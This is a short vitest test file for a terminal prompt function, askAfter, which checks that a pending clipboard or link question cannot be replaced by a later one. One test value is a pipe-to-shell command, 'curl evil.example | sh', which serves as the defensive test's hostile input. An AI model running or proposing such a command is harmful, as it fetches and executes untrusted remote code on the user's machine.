import { expect, it } from 'vitest'
import { askAfter } from './terminal-ask.ts'

it('lets no program exchange a question that the person is about to answer', () => {
  const harmless = { kind: 'clipboard', text: 'a name' } as const
  const harmful = { kind: 'clipboard', text: 'curl evil.example | sh' } as const
  const link = { kind: 'link', url: 'https://docs.example' } as const
  expect(askAfter(null, harmless)).toBe(harmless)
  expect(askAfter(harmless, harmful)).toBe(harmless)
  expect(askAfter(link, harmful)).toBe(link)
  expect(askAfter(harmless, link)).toBe(link)
})
